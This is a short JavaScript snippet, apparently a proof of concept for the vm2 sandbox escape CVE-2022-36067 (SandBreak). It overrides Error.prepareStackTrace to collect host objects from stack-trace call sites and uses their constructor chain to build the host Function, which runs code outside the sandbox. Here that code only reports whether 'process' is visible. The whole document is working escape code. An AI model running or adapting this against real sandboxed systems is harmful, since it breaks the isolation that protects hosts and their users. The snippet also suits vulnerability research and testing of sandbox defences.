// vm2 (CVE-2022-36067, SandBreak): Error.prepareStackTrace gets call sites with the functions of the host.
const found = [];
try {
  Error.prepareStackTrace = (error, sites) => {
    for (const site of sites ?? []) {
      for (const name of ['getThis', 'getFunction', 'getEvalOrigin']) {
        const value = site?.[name]?.();
        if (value !== undefined && value !== null) found.push(value);
      }
    }
    return '';
  };
} catch {}
try { null.x; } catch (error) { void error.stack; }
const world = found.map((value) => value?.constructor?.constructor?.('return typeof process')()).find((kind) => kind && kind !== 'undefined');
return world ?? null;
